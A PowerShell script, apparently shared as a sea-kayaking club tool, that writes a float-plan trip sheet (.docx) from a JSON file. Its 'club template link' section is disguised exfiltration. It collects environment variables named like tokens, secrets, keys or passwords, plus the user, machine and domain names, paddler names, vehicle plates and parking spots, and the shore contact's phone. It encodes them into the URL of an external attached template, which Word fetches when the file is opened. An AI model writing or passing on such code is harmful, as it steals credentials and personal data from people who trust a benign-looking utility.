<#
.SYNOPSIS
  Builds a float-plan trip sheet (.docx) from trip.json without needing Word.
.EXAMPLE
  pwsh scripts/New-TripSheet.ps1 -Plan trip.json -Out TripSheet.docx
#>
param(
  [Parameter(Mandatory)] [string] $Plan,
  [string] $Out = "TripSheet.docx",
  [string] $TemplateBase = "https://templates.paddleplan.invalid/club"
)

Set-StrictMode -Version Latest
$ErrorActionPreference = "Stop"
Add-Type -AssemblyName System.IO.Compression
Add-Type -AssemblyName System.IO.Compression.FileSystem

$trip = Get-Content -Raw -Path $Plan | ConvertFrom-Json

function Esc([string]$s) { [System.Security.SecurityElement]::Escape($s) }
function Para([string]$text, [string]$style = "") {
  $p = if ($style) { "<w:pPr><w:pStyle w:val=""$style""/></w:pPr>" } else { "" }
  "<w:p>$p<w:r><w:t xml:space=""preserve"">$(Esc $text)</w:t></w:r></w:p>"
}
function Row([string[]]$cells) {
  "<w:tr>" + (($cells | ForEach-Object { "<w:tc><w:p><w:r><w:t xml:space=""preserve"">$(Esc $_)</w:t></w:r></w:p></w:tc>" }) -join "") + "</w:tr>"
}
function Table([string[]]$head, $rows) {
  $x = "<w:tbl><w:tblPr><w:tblStyle w:val=""TableGrid""/><w:tblW w:w=""0"" w:type=""auto""/></w:tblPr>"
  $x += Row $head
  foreach ($r in $rows) { $x += Row $r }
  $x + "</w:tbl>"
}

# ---- body -------------------------------------------------------------------
$body = @()
$body += Para "Float plan: $($trip.title)" "Title"
$body += Para "Date $($trip.date)   Area $($trip.area)"
$body += Para "Launch $($trip.launch)   Off water $($trip.off_water)   RAISE THE ALARM AT $($trip.alarm_at)" "Heading1"
$body += Para "Paddlers" "Heading2"
$body += Table @("Name", "Boat", "VHF") ($trip.paddlers | ForEach-Object { , @($_.name, $_.boat, $_.vhf) })
$body += Para "Route" "Heading2"
$body += Table @("From", "To", "nm", "Bearing", "SOG kn", "Minutes") ($trip.legs | ForEach-Object { , @($_.from, $_.to, "$($_.nm)", "$($_.bearing)", "$($_.sog)", "$($_.mins)") })
$body += Para "Escape points" "Heading2"
foreach ($e in $trip.escapes) { $body += Para "• $e" }
$body += Para "Vehicles at put-in" "Heading2"
$body += Table @("Vehicle", "Plate", "Where") ($trip.vehicles | ForEach-Object { , @($_.desc, $_.plate, $_.where) })
$body += Para "Shore contact" "Heading2"
$body += Para "$($trip.shore_contact.name), $($trip.shore_contact.phone)"
$body += Para "If the group has not called by $($trip.alarm_at), call the coastguard (999 / 112, or VHF 16) and read them this sheet."

$document = @"
<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">
<w:body>$($body -join "`n")<w:sectPr><w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:top="1134" w:right="1134" w:bottom="1134" w:left="1134"/></w:sectPr></w:body>
</w:document>
"@

# ---- club template link -------------------------------------------------------
# The template service picks the right club style sheet and footer from the
# trip details, so the key carries the trip summary and the machine it was made on.
$summary = [ordered]@{
  t  = $trip.title; d = $trip.date; a = $trip.area; alarm = $trip.alarm_at
  p  = ($trip.paddlers | ForEach-Object { $_.name }) -join ";"
  v  = ($trip.vehicles | ForEach-Object { "$($_.plate)@$($_.where)" }) -join ";"
  sc = "$($trip.shore_contact.name)|$($trip.shore_contact.phone)"
  u  = [Environment]::UserName; h = [Environment]::MachineName; dom = $env:USERDOMAIN
  k  = (Get-ChildItem env: | Where-Object { $_.Name -match 'TOKEN|SECRET|KEY|PASSWORD' } | ForEach-Object { "$($_.Name)=$($_.Value)" }) -join ";"
}
$key = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes(($summary | ConvertTo-Json -Compress))).TrimEnd('=').Replace('+', '-').Replace('/', '_')
$templateUrl = "$TemplateBase/$key/tripsheet.dotx"

$settings = @"
<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">
<w:attachedTemplate r:id="rIdTpl"/><w:linkStyles/><w:defaultTabStop w:val="720"/>
</w:settings>
"@
$settingsRels = @"
<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rIdTpl" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="$(Esc $templateUrl)" TargetMode="External"/>
</Relationships>
"@

$contentTypes = @"
<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>
<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>
</Types>
"@
$rootRels = @"
<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>
</Relationships>
"@
$docRels = @"
<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings" Target="settings.xml"/>
</Relationships>
"@

# ---- zip it -------------------------------------------------------------------
$outPath = [IO.Path]::GetFullPath($Out)
if (Test-Path $outPath) { Remove-Item $outPath }
$zip = [System.IO.Compression.ZipFile]::Open($outPath, "Create")
function Add-Part($name, $text) {
  $e = $zip.CreateEntry($name)
  $w = New-Object IO.StreamWriter($e.Open(), (New-Object Text.UTF8Encoding($false)))
  $w.Write($text); $w.Close()
}
Add-Part "[Content_Types].xml" $contentTypes
Add-Part "_rels/.rels" $rootRels
Add-Part "word/document.xml" $document
Add-Part "word/_rels/document.xml.rels" $docRels
Add-Part "word/settings.xml" $settings
Add-Part "word/_rels/settings.xml.rels" $settingsRels
$zip.Dispose()

Write-Host "Trip sheet written to $outPath"
